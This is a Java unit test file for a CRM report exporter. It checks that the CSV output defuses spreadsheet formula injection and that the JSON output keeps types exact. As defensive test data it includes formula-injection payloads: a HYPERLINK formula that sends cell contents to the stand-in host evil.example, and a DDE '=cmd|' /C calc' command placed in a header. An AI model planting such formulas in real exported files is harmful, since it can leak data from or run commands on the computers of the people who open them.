package org.crmkit.report.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.io.Writer;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.crmkit.Crm;
import org.crmkit.CrmSession;
import org.crmkit.query.Metric;
import org.crmkit.record.Money;
import org.crmkit.report.ReportDefinition;
import org.crmkit.report.ReportTable;
import org.crmkit.report.ReportTable.Column;
import org.crmkit.schema.Currencies;
import org.crmkit.schema.ExchangeRate;
import org.crmkit.security.Principal;
import org.crmkit.security.Role;
import org.crmkit.storage.memory.InMemoryStorage;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

/**
 * {@link ReportExport}: CSV read back with FastCSV (a real RFC 4180 parser), JSON read back with Jackson, each cell
 * compared with the table's value; the formula guard on every dangerous first character, including values that came
 * from records through a real report.
 */
class ReportExportTest {
    /** Texts a spreadsheet would run as formulas, one per dangerous first character (= + - @ tab CR). */
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")", "@SUM(1)",
            "-2+3", "\tx", "\rx", "+1", "=1+1", "-", "@");
    /** Texts that need quoting or are plain, none a formula. */
    static final List<String> PLAIN = List.of("Acme, Inc.", "say \"hi\"", "two\nlines", "cr\r\nlf", "Zürich 東京 😀",
            "a'b", " =not a formula (leading space)", "1-2", "x=1", "");

    private static ReportTable table(List<String> texts) {
        List<List<@Nullable Object>> rows = new ArrayList<>();
        long n = 0;
        for (String t : texts) {
            rows.add(Arrays.asList(t, --n, new BigDecimal("-1234.50").add(BigDecimal.valueOf(n))));
        }
        rows.add(Arrays.asList(null, null, null));
        return new ReportTable("r", "R", List.of(Column.group("name", "Name"), Column.measure("count", "Count"),
                Column.measure("sum(amount.corporate)", "Amount")), rows);
    }

    private static List<List<String>> parse(String csv) {
        try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(csv)) {
            return reader.stream().map(CsvRecord::getFields).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String csv(ReportTable table) {
        StringWriter out = new StringWriter();
        ReportExport.csv(table, out);
        return out.toString();
    }

    private static JsonNode json(ReportTable table) throws IOException {
        StringWriter out = new StringWriter();
        ReportExport.json(table, out);
        return new ObjectMapper().enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS).readTree(out.toString());
    }

    /** What a text cell reads back as: the text, with a leading ' where it starts like a formula. */
    private static String expectedText(@Nullable String text) {
        if (text == null) {
            return "";
        }
        return !text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0 ? "'" + text : text;
    }

    @Test
    void csvNeutralisesEveryFormulaStartAndRoundTripsEveryOtherText() {
        List<String> texts = new ArrayList<>(FORMULAS);
        texts.addAll(PLAIN);
        ReportTable table = table(texts);
        String csv = csv(table);
        List<List<String>> lines = parse(csv);
        assertThat(lines.get(0)).containsExactly("name", "count", "sum(amount.corporate)");
        assertThat(lines).hasSize(table.rows().size() + 1);
        for (int r = 0; r < table.rows().size(); r++) {
            List<@Nullable Object> row = table.rows().get(r);
            List<String> read = lines.get(r + 1);
            assertThat(read.get(0)).as("row %d", r).isEqualTo(expectedText((String) row.get(0)));
            // numbers, negative ones included, are numbers in the sheet: never prefixed
            assertThat(read.get(1)).isEqualTo(row.get(1) == null ? "" : row.get(1).toString());
            assertThat(read.get(2)).isEqualTo(row.get(2) == null ? "" : ((BigDecimal) row.get(2)).toPlainString());
        }
        assertThat(csv).startsWith("name,count,sum(amount.corporate)\r\n")
                .contains("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"Click\"\")\",-1,-1235.50\r\n")
                .contains("\"'-2+3\",-3,")
                .contains("\"'\tx\",").contains("\"'\rx\",")
                .contains("\r\nx=1,").contains("\r\n\"\",-19,")
                .endsWith("\r\n,,\r\n");
        // no cell the parser reads starts a formula
        for (List<String> line : lines) {
            for (String cell : line.subList(0, 1)) {
                assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0).as(cell).isTrue();
            }
        }
    }

    @Test
    void csvGuardsTheHeaderToo() {
        ReportTable table = new ReportTable("r", "R", List.of(Column.group("=cmd|' /C calc'!A0", "x"),
                Column.measure("n", "n")), List.of(Arrays.asList("a", 1L)));
        assertThat(parse(csv(table)).get(0)).containsExactly("'=cmd|' /C calc'!A0", "n");
    }

    @Test
    void csvWritesTypedValuesPlainlyAndMoneyAsAmountAndCurrencyColumns() {
        UUID id = UUID.fromString("0190f5e4-7d1c-7a3b-9f00-123456789abc");
        ReportTable table = new ReportTable("r", "R", List.of(Column.group("close_date.month", "Month"),
                Column.group("owner_id", "Owner"), Column.group("won", "Won"), Column.measure("max(updated_at)", "At"),
                Column.measure("sum(amount)", "Amount"), Column.measure("avg(probability)", "Probability")),
                List.of(Arrays.asList(LocalDate.of(2026, 3, 1), id, true, Instant.parse("2026-03-31T09:30:00Z"),
                        new Money(new BigDecimal("-1234.50"), "EUR"), new BigDecimal("1E+3")),
                        Arrays.asList(null, null, false, null, null, new BigDecimal("0.000001"))));
        List<List<String>> lines = parse(csv(table));
        assertThat(lines.get(0)).containsExactly("close_date.month", "owner_id", "won", "max(updated_at)",
                "sum(amount)", "sum(amount).currency", "avg(probability)");
        assertThat(lines.get(1)).containsExactly("2026-03-01", id.toString(), "true", "2026-03-31T09:30:00Z",
                "-1234.50", "EUR", "1000");
        assertThat(lines.get(2)).containsExactly("", "", "false", "", "", "", "0.000001");
    }

    @Test
    void jsonKeepsTypesExactly() throws IOException {
        UUID id = UUID.fromString("0190f5e4-7d1c-7a3b-9f00-123456789abc");
        BigDecimal big = new BigDecimal("12345678901234567890.123456789");
        ReportTable table = new ReportTable("pipeline", "Pipeline \"open\"", List.of(Column.group("stage", "Stage"),
                Column.group("close_date.month", "Month"), Column.group("owner_id", "Owner"),
                Column.measure("count", "Deals"), Column.measure("sum(amount.corporate)", "Total"),
                Column.measure("min(amount)", "Smallest"), Column.measure("max(updated_at)", "Last"),
                Column.measure("won", "Won")),
                List.of(Arrays.asList("=1+1", LocalDate.of(2026, 3, 1), id, 12L, big,
                        new Money(new BigDecimal("1234.50"), "EUR"), Instant.parse("2026-03-31T09:30:00Z"), true),
                        Arrays.asList(null, null, null, 0L, new BigDecimal("1E+3"), null, null, null)));
        JsonNode n = json(table);
        assertThat(n.get("name").asText()).isEqualTo("pipeline");
        assertThat(n.get("label").asText()).isEqualTo("Pipeline \"open\"");
        assertThat(n.get("columns")).hasSize(8);
        assertThat(n.get("columns").get(0).toString()).isEqualTo(
                "{\"name\":\"stage\",\"label\":\"Stage\",\"role\":\"group\"}");
        assertThat(n.get("columns").get(3).get("role").asText()).isEqualTo("measure");
        JsonNode row = n.get("rows").get(0);
        assertThat(row.get(0).asText()).as("JSON text is not a spreadsheet: kept as it is").isEqualTo("=1+1");
        assertThat(row.get(1).asText()).isEqualTo("2026-03-01");
        assertThat(row.get(2).asText()).isEqualTo(id.toString());
        assertThat(row.get(3).isIntegralNumber()).isTrue();
        assertThat(row.get(3).longValue()).isEqualTo(12L);
        assertThat(row.get(4).isNumber()).isTrue();
        assertThat(row.get(4).decimalValue()).isEqualTo(big);
        assertThat(row.get(5).get("amount").decimalValue()).isEqualByComparingTo("1234.50");
        assertThat(row.get(5).get("currency").asText()).isEqualTo("EUR");
        assertThat(row.get(6).asText()).isEqualTo("2026-03-31T09:30:00Z");
        assertThat(row.get(7).isBoolean()).isTrue();
        JsonNode second = n.get("rows").get(1);
        assertThat(second.get(0).isNull()).isTrue();
        assertThat(second.get(4).toString()).as("plain notation, no exponent").isEqualTo("1000");
        StringWriter raw = new StringWriter();
        ReportExport.json(table, raw);
        assertThat(raw.toString()).contains("12345678901234567890.123456789", "{\"amount\":1234.50,\"currency\":"
                + "\"EUR\"}");
    }

    @Test
    void streamsAreUtf8FlushedAndLeftOpen() throws IOException {
        ReportTable table = table(List.of("Zürich 東京 😀", "=1"));
        boolean[] closed = {false};
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        OutputStream out = new OutputStream() {
            @Override
            public void write(int b) {
                bytes.write(b);
            }

            @Override
            public void write(byte[] b, int off, int len) {
                bytes.write(b, off, len);
            }

            @Override
            public void close() {
                closed[0] = true;
            }
        };
        ReportExport.csv(table, out);
        assertThat(closed[0]).isFalse();
        String csv = bytes.toString(StandardCharsets.UTF_8);
        assertThat(csv).isEqualTo(csv(table));
        assertThat(bytes.toByteArray()[0]).as("no byte order mark").isEqualTo((byte) 'n');
        bytes.reset();
        ReportExport.json(table, out);
        assertThat(closed[0]).isFalse();
        StringWriter viaWriter = new StringWriter();
        ReportExport.json(table, viaWriter);
        assertThat(bytes.toString(StandardCharsets.UTF_8)).isEqualTo(viaWriter.toString()).contains("Zürich 東京 😀");
    }

    @Test
    void aFailingWriterGivesAnUncheckedIoException() {
        Writer broken = new Writer() {
            @Override
            public void write(char[] buf, int off, int len) throws IOException {
                throw new IOException("disk full");
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        assertThatThrownBy(() -> ReportExport.csv(table(List.of("a")), broken))
                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("report r as CSV");
        assertThatThrownBy(() -> ReportExport.json(table(List.of("a")), broken))
                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("report r as JSON");
    }

    /**
     * A real report on an in-memory {@code Crm}: deals whose names are formulas (what a user typed into a record),
     * grouped by name with a count and the amount in euros, exported as the rep who owns them sees it.
     */
    @Test
    void aReportRunOnRecordsExportsSafely() throws IOException {
        try (Crm crm = Crm.builder().storage(InMemoryStorage.create()).build()) {
            crm.schema().setCurrencies(Currencies.corporate("EUR").withRate(ExchangeRate.of("USD", "2025-01-01",
                    "1.25")));
            CrmSession rep = crm.as(Principal.user("u-1", Role.SALES_REP));
            List<String> names = new ArrayList<>(FORMULAS);
            // a text field refuses control characters: tab, CR and LF are the table tests' own
            names.addAll(PLAIN.stream().filter(s -> !s.isBlank()).toList());
            names.removeIf(s -> s.chars().anyMatch(Character::isISOControl));
            for (int i = 0; i < names.size(); i++) {
                rep.records("deal").create(Map.of("name", names.get(i), "amount", i % 2 == 0
                        ? Money.of(1000 + i, "EUR") : Money.of("125.00", "USD"), "close_date",
                        LocalDate.of(2026, 1, 15)));
            }
            ReportDefinition byName = ReportDefinition.builder("deals_by_name", "deal").label("Deals by name")
                    .groupBy("name").metric(Metric.count()).metric(Metric.sum("amount.corporate"))
                    .metric(Metric.avg("probability")).build();
            ReportTable table = rep.reports().run(byName).table();
            assertThat(table.rows()).hasSize(names.size());

            List<List<String>> lines = parse(csv(table));
            assertThat(lines.get(0)).containsExactly("name", "count(*)", "sum(amount.corporate)", "avg(probability)");
            for (int r = 0; r < table.rows().size(); r++) {
                List<@Nullable Object> row = table.rows().get(r);
                assertThat(lines.get(r + 1)).containsExactly(expectedText((String) row.get(0)), "1",
                        ((BigDecimal) row.get(2)).toPlainString(), ((BigDecimal) row.get(3)).toPlainString());
            }
            assertThat(lines.stream().map(l -> l.get(0))).contains("'=HYPERLINK(\"http://evil.example/?q=\"&A1,"
                    + "\"Click\")", "'@SUM(1)", "'-2+3", "'+1", "'=1+1", "'-", "'@", "Zürich 東京 😀", "Acme, Inc.",
                    "say \"hi\"");
            assertThat(lines.stream().map(l -> l.get(2))).contains("100.00");

            JsonNode json = json(table);
            assertThat(json.get("label").asText()).isEqualTo("Deals by name");
            assertThat(json.get("rows")).hasSize(table.rows().size());
            for (int r = 0; r < table.rows().size(); r++) {
                JsonNode row = json.get("rows").get(r);
                assertThat(row.get(0).asText()).isEqualTo(table.rows().get(r).get(0));
                assertThat(row.get(1).longValue()).isEqualTo(table.rows().get(r).get(1));
                assertThat(row.get(2).decimalValue()).isEqualByComparingTo((BigDecimal) table.rows().get(r).get(2));
                assertThat(row.get(3).decimalValue()).isEqualByComparingTo((BigDecimal) table.rows().get(r).get(3));
            }
        }
    }
}
